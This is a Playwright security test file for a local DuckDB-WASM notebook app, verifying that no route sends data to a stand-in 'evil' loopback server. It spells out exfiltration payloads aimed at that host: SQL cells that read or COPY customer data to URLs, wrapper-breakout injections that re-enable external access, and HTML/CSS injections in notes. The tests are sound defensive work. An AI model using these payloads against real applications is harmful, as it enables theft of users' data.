// Nothing leaves the machine (docs/privacy.md): an "evil" server on another loopback port logs every
// request it receives, and every route out the page offers is tried: the SQL cell's file functions and
// statements, notes' images, styles, frames and links, a hostile notebook file, a hostile config link, and
// the engine worker itself. It must log nothing. Every response of the app carries the security headers,
// from `vite preview` and from the service worker.
import { expect, test, type Page } from '@playwright/test';
import { createServer, type Server } from 'node:http';
import { mkdtempSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { docToFragment } from '../../src/engine/config/link';
import { SECURITY_HEADERS } from '../../scripts/security-headers';
import { engineReady } from './helpers/ready';
import { addCell } from './helpers/add-cell';

// DuckDB-WASM starts in seconds on an idle machine, in a minute on a busy one.
test.describe.configure({ timeout: 300_000 });

const EVIL_PORT = Number(process.env.TIERBOOK_EVIL_PORT ?? 4399);
const EVIL = `http://127.0.0.1:${EVIL_PORT}`;
const log: string[] = [];
let evil: Server;

test.beforeAll(async () => {
  // As welcoming as a real collector: any method, any origin, a body that parses as CSV.
  evil = createServer((req, res) => {
    log.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*', 'Content-Type': 'text/csv' });
    res.end('customer_id,amount\nstolen,1\n');
  });
  await new Promise<void>((resolve, reject) => evil.once('error', reject).listen(EVIL_PORT, '127.0.0.1', resolve));
});
test.afterAll(() => new Promise<void>((resolve) => evil.close(() => resolve())));
test.beforeEach(() => { log.length = 0; });

/** The evil server's log after the page had time to try (images, styles and frames load asynchronously). */
async function requestsReceived(page: Page): Promise<string[]> {
  await page.waitForTimeout(500);
  return [...log];
}

async function ready(page: Page, path = '/') {
  await page.goto(path);
  await engineReady(page, '6,000');
}

/** Runs one text in a fresh SQL cell; its answer: 'rows: …' or the refusal shown. The cell is removed after. */
async function runSql(page: Page, text: string): Promise<string> {
  await addCell(page, 'sql');
  const cell = page.getByRole('region', { name: 'SQL' });
  await cell.getByLabel('SQL', { exact: true }).fill(text);
  await cell.getByRole('button', { name: 'Run', exact: true }).click();
  const table = cell.getByRole('table', { name: 'Query result' });
  const alert = cell.getByRole('alert');
  await expect(table.or(alert)).toBeVisible();
  // The answer to this text (a new cell first answers its example query).
  await expect(cell.getByRole('button', { name: 'Cancel' })).toBeDisabled();
  await expect(cell.getByTestId('sql-stale')).toHaveCount(0);
  const answer = (await alert.count()) ? (await alert.textContent())! : `rows: ${await table.locator('tbody').textContent()}`;
  await page.getByRole('button', { name: 'Remove: SQL' }).click();
  return answer;
}

const DISABLED = /file system operations are disabled by configuration/;

/**
 * Every way out through the SQL cell, as the texts a hostile analyst or notebook would run in order, and
 * what the cell must show for the last one (null: any refusal). `)` tricks break out of the cell's
 * wrapper on today's code; they must be refused (or be harmless) whatever the cell's own rules.
 */
const SQL_ROUTES: [string, string[], RegExp | null][] = [
  ['read_text of a URL', [`SELECT * FROM read_text('${EVIL}/read_text')`], DISABLED],
  ['read_csv of a URL', [`SELECT * FROM read_csv('${EVIL}/read_csv.csv')`], DISABLED],
  ['read_csv_auto of a list of URLs', [`SELECT * FROM read_csv_auto(['${EVIL}/list-a.csv', '${EVIL}/list-b.csv'])`], DISABLED],
  ['read_blob of a URL', [`SELECT * FROM read_blob('${EVIL}/read_blob')`], DISABLED],
  ['a URL as a table', [`SELECT * FROM '${EVIL}/as-table.csv'`], DISABLED],
  ['read_parquet of a URL', [`SELECT * FROM read_parquet('${EVIL}/x.parquet')`], null],
  ['read_json of a URL', [`SELECT * FROM read_json('${EVIL}/x.json')`], null],
  ['a URL per customer (lateral)', [`SELECT * FROM (SELECT customer_id FROM customers LIMIT 5) c, read_text('${EVIL}/exfil?d=' || c.customer_id)`], null],
  ['COPY to a URL', [`COPY (SELECT customer_id, monetary FROM customers) TO '${EVIL}/copy.csv'`], null],
  ['COPY to a URL, out of the wrapper', [`SELECT 1 AS a) t; COPY (SELECT customer_id, monetary FROM customers) TO '${EVIL}/copy-breakout.csv'; SELECT * FROM (SELECT 1 AS a`], null],
  ['ATTACH a URL', [`ATTACH '${EVIL}/attach.duckdb' AS evil`], null],
  ['ATTACH a URL, out of the wrapper', [`SELECT 1 AS a) t; ATTACH '${EVIL}/attach-breakout.duckdb' AS evil; SELECT * FROM (SELECT 1 AS a`], null],
  ['INSTALL and LOAD httpfs, then read', [`SELECT 1 AS a) t; INSTALL httpfs; LOAD httpfs; SELECT * FROM (SELECT 1 AS a`, `SELECT * FROM read_text('${EVIL}/after-load')`], DISABLED],
  ['SET enable_external_access, then read', [`SELECT 1 AS a) t; SET enable_external_access = true; SELECT * FROM (SELECT 1 AS a`, `SELECT * FROM read_text('${EVIL}/after-set')`], DISABLED],
  ['RESET enable_external_access, then read', [`SELECT 1 AS a) t; RESET enable_external_access; SELECT * FROM (SELECT 1 AS a`, `SELECT * FROM read_text('${EVIL}/after-reset')`], DISABLED],
  ['SET allowed_directories, then read', [`SELECT 1 AS a) t; SET allowed_directories = ['http://']; SELECT * FROM (SELECT 1 AS a`, `SELECT * FROM read_text('${EVIL}/after-allowed')`], DISABLED],
  ['SET VARIABLE with the data, then a URL from it', [
    `SELECT 1 AS a) t; SET VARIABLE leak = (SELECT string_agg(customer_id || ':' || monetary, ',') FROM (SELECT * FROM tb_metrics LIMIT 20)); SELECT * FROM (SELECT 1 AS a`,
    `SELECT * FROM read_text('${EVIL}/exfil?d=' || getvariable('leak'))`,
  ], null], // the first text is refused whole, so no variable is set: the second fails on NULL, no request
];

test.describe('the SQL cell reaches no other origin', () => {
  let page: Page;
  test.beforeAll(async ({ browser }) => {
    page = await browser.newPage();
    await ready(page);
  });
  test.afterAll(() => page.close());

  for (const [what, texts, shown] of SQL_ROUTES)
    test(what, async () => {
      let last = '';
      for (const text of texts) last = await runSql(page, text);
      if (shown) expect(last).toMatch(shown);
      else expect(last).not.toMatch(/^rows: /);
      expect(await requestsReceived(page)).toEqual([]);
      await expect(page.getByTestId('customers')).toHaveText('6,000');
    });

  test('the engine reads back its lock: no external access, configuration locked', async () => {
    const settings = await runSql(page, `SELECT name, CAST(value AS VARCHAR) AS v FROM duckdb_settings() WHERE name IN ('enable_external_access', 'lock_configuration', 'autoload_known_extensions', 'autoinstall_known_extensions') ORDER BY name`);
    expect(settings).toBe('rows: autoinstall_known_extensionsfalseautoload_known_extensionsfalseenable_external_accessfalselock_configurationtrue');
  });
});

/** Every way a note could make the browser fetch: each URL names its payload, so a leak says which one. */
const NOTE_PAYLOADS = [
  `![markdown image](${EVIL}/md-image.png)`,
  `[![linked image](${EVIL}/md-linked-image.png)](${EVIL}/md-link)`,
  `<img src="${EVIL}/img.png">`,
  `<img srcset="${EVIL}/srcset.png 2x" src="data:,">`,
  `<picture><source srcset="${EVIL}/picture.png"><img src="data:,"></picture>`,
  `<link rel="stylesheet" href="${EVIL}/link-stylesheet.css">`,
  `<link rel="prefetch" href="${EVIL}/link-prefetch">`,
  `<link rel="preload" as="image" href="${EVIL}/link-preload.png">`,
  `<div style="background:url(${EVIL}/style-attr.png)">styled</div>`,
  `<style>@import url(${EVIL}/style-import.css); .cell { background: url(${EVIL}/style-tag.png) }</style>`,
  `<style>@font-face { font-family: evil; src: url(${EVIL}/font.woff) } .note p { font-family: evil }</style>`,
  `<iframe src="${EVIL}/iframe"></iframe>`,
  `<frameset><frame src="${EVIL}/frame"></frameset>`,
  `<a href="${EVIL}/a-href">a link nobody clicks</a>`,
  `<a href="${EVIL}/a-ping" ping="${EVIL}/ping">a ping nobody triggers</a>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/meta-refresh">`,
  `<base href="${EVIL}/base/"><img src="relative.png">`,
  `<video src="${EVIL}/video.mp4" autoplay muted poster="${EVIL}/poster.png"></video>`,
  `<audio src="${EVIL}/audio.mp3" autoplay></audio>`,
  `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  `<table background="${EVIL}/table-background.png"><tr><td>cell</td></tr></table>`,
  `<svg><image href="${EVIL}/svg-image.png" width="10" height="10"/></svg>`,
  `<form action="${EVIL}/form"><input type="image" src="${EVIL}/input-image.png"></form>`,
  `<script src="${EVIL}/script.js"></script>`,
];

test('notes: no image, style, font, frame, link, refresh or media reaches the evil server', async ({ page }) => {
  await ready(page);
  await addCell(page, 'note');
  await page.getByLabel('Note (markdown)').fill(NOTE_PAYLOADS.join('\n\n'));
  await page.getByRole('region', { name: 'Note' }).getByRole('button', { name: 'OK' }).click();
  await expect(page.getByRole('region', { name: 'Note' }).getByText('a link nobody clicks')).toBeVisible();
  await page.waitForTimeout(1000); // a meta refresh of 0 s, lazy images, fonts on first use
  expect(await requestsReceived(page)).toEqual([]);
  expect(new URL(page.url()).origin).not.toBe(EVIL);
  await expect(page.getByTestId('customers')).toHaveText('6,000');
});

test('a hostile notebook file, opened and Run, reaches nothing', async ({ page }) => {
  await ready(page);
  const notebook = {
    format: 'tierbook-notebook', version: 1, config: { version: 1 }, lang: 'en', mapping: [],
    cells: [
      { id: 'data', kind: 'data', collapsed: false },
      { id: 'n1', kind: 'note', collapsed: false, text: NOTE_PAYLOADS.join('\n\n') },
      { id: 'q1', kind: 'sql', collapsed: false, text: `SELECT * FROM read_text('${EVIL}/notebook-read')` },
      { id: 'q2', kind: 'sql', collapsed: false, text: `SELECT 1 AS a) t; COPY (SELECT * FROM customers) TO '${EVIL}/notebook-copy.csv'; SELECT * FROM (SELECT 1 AS a` },
    ],
  };
  const file = join(mkdtempSync(join(tmpdir(), 'tierbook-evil-')), 'client-review.json');
  writeFileSync(file, JSON.stringify(notebook));
  await page.getByText('Share and save').click();
  await page.getByLabel('Open notebook').setInputFiles(file);
  const cells = page.getByRole('region', { name: 'SQL' });
  await expect(cells).toHaveCount(2);
  for (const cell of await cells.all()) {
    await cell.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(cell.getByRole('alert')).toBeVisible();
  }
  await expect(cells.first().getByRole('alert')).toContainText('disabled by configuration');
  expect(await requestsReceived(page)).toEqual([]);
  await expect(page.getByTestId('customers')).toHaveText('6,000');
});

test('a hostile config link: its texts are shown as text, nothing is fetched', async ({ page }) => {
  const html = `<img src="${EVIL}/link-title.png"> ![x](${EVIL}/link-md.png)`;
  const doc = {
    version: 1,
    strategy: {
      matrix: { cells: { 'high|at_risk': 'custom.evil' } },
      playbook: { 'custom.evil': { title: { en: html, zh: html }, actions: { en: [html] }, channel: 'email', priority: 'high', kpi: { en: `<style>@import url(${EVIL}/kpi.css)</style>` } } },
    },
  };
  await ready(page, `/#${docToFragment(doc)}`);
  await expect(page.getByRole('status').filter({ hasText: 'Settings from the link are applied.' })).toBeVisible();
  const playbook = page.getByRole('region', { name: 'Playbook' });
  await expect(playbook.locator('[data-strategy="custom.evil"]')).toBeVisible();
  await expect(page.getByRole('region', { name: 'Strategy matrix' }).getByLabel('Strategy for High value × At risk')).toHaveValue('custom.evil');
  await expect(page.locator('img[src^="http"]')).toHaveCount(0);
  expect(await requestsReceived(page)).toEqual([]);
});

test('the engine worker itself can reach no other origin (its script carries the policy)', async ({ page }) => {
  await ready(page);
  const worker = page.workers().find((w) => /engine\.worker/.test(w.url()));
  expect(worker, 'the engine worker').toBeDefined();
  const outcomes = await worker!.evaluate(async (evil) => {
    const attempt = async (what: string, f: () => Promise<unknown> | unknown) => {
      try { await f(); return `${what}: sent`; } catch { return `${what}: refused`; }
    };
    return [
      await attempt('fetch', () => fetch(`${evil}/worker-fetch`)),
      await attempt('fetch no-cors', () => fetch(`${evil}/worker-no-cors`, { mode: 'no-cors' })),
      await attempt('sync XHR (what DuckDB-WASM uses)', () => { const x = new XMLHttpRequest(); x.open('GET', `${evil}/worker-xhr`, false); x.send(); }),
      await attempt('WebSocket', () => new Promise((resolve, reject) => { const ws = new WebSocket(`${evil.replace('http', 'ws')}/worker-ws`); ws.onopen = resolve; ws.onerror = reject; })),
      await attempt('import()', () => import(/* @vite-ignore */ `${evil}/worker-import.js`)),
    ];
  }, EVIL);
  expect(outcomes).toEqual(['fetch: refused', 'fetch no-cors: refused', 'sync XHR (what DuckDB-WASM uses): refused', 'WebSocket: refused', 'import(): refused']);
  expect(await requestsReceived(page)).toEqual([]);
});

test('the app works under its own policy: no violation while it loads, recounts, draws a PNG and queries', async ({ page }) => {
  const refused: string[] = [];
  const watch = (where: string) => (m: { type(): string; text(): string }) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) refused.push(`${where}: ${m.text()}`);
  };
  page.on('console', watch('page'));
  page.on('worker', (w) => w.on('console', watch('worker')));
  await ready(page);
  const loyal = page.getByLabel('Loyal: minimum purchases (value)', { exact: true });
  await loyal.fill('6');
  await loyal.press('Enter');
  await expect(page.locator('main')).not.toHaveClass(/updating/);
  const [png] = await Promise.all([page.waitForEvent('download'), page.getByRole('region', { name: 'Customer ladder' }).getByRole('button', { name: 'PNG: customer-ladder' }).click()]);
  expect(png.suggestedFilename()).toBe('customer-ladder.png');
  expect(await runSql(page, 'SELECT ladder, count(*) AS n FROM customers GROUP BY ladder ORDER BY n DESC LIMIT 1')).toMatch(/^rows: \w+\d/);
  expect(refused).toEqual([]);
});

const files = (dir: string): string[] => readdirSync(dir).flatMap((f) => (statSync(join(dir, f)).isDirectory() ? files(join(dir, f)) : [join(dir, f)]));
/** Every file the host serves: the page, the scripts (the engine worker and the service worker too), the wasm, the data. */
const served = () => ['/', ...files('dist').map((f) => `/${relative('dist', f)}`).filter((f) => f !== '/_headers')];

test('every response of the app carries the security headers, from the host and from the service worker', async ({ page, context }) => {
  const urls = served();
  expect(urls.filter((u) => /engine\.worker-[\w-]+\.js$|duckdb-eh-[\w-]+\.wasm$|\/sw\.js$|\.csv$/.test(u)).length).toBeGreaterThanOrEqual(7);
  const want = Object.fromEntries(Object.entries(SECURITY_HEADERS).map(([k, v]) => [k.toLowerCase(), v]));
  const pick = (h: Record<string, string>) => Object.fromEntries(Object.keys(want).map((k) => [k, h[k]]));

  // From the host (`vite preview`), and for an address that is not a file (the SPA fallback, a 404).
  for (const url of [...urls, '/no/such/file.js', '/?c=1'])
    expect({ url, headers: pick((await page.request.get(url)).headers()) }).toEqual({ url, headers: want });

  // From the service worker, with the network off: only its cache can answer.
  await ready(page);
  await page.evaluate(async () => { await navigator.serviceWorker.ready; });
  await expect.poll(() => page.evaluate(() => !!navigator.serviceWorker.controller)).toBe(true);
  await context.setOffline(true);
  try {
    await page.reload();
    await expect(page.getByTestId('customers')).toHaveText('6,000');
    // What it keeps: every file but itself, index.html (kept as the page, `/`) and the wasm for old browsers (kept when used).
    const kept = urls.filter((u) => !/\/sw\.js$|\/index\.html$|duckdb-mvp/.test(u));
    expect(kept.length).toBe(urls.length - 3);
    const fromSw = await page.evaluate(async (list) => Promise.all(list.map(async (url) => {
      try {
        return { url, headers: Object.fromEntries((await fetch(url)).headers) };
      } catch (e) {
        return { url, headers: { error: String(e) } as Record<string, string> };
      }
    })), kept);
    for (const { url, headers } of fromSw) expect({ url, headers: pick(headers) }).toEqual({ url, headers: want });
    // The page itself, as navigated: its header policy is in force (frame-ancestors exists only as a header).
    const nav = await page.reload();
    expect(nav?.fromServiceWorker()).toBe(true);
    expect(pick(await nav!.allHeaders())).toEqual(want);
  } finally {
    await context.setOffline(false);
  }
});
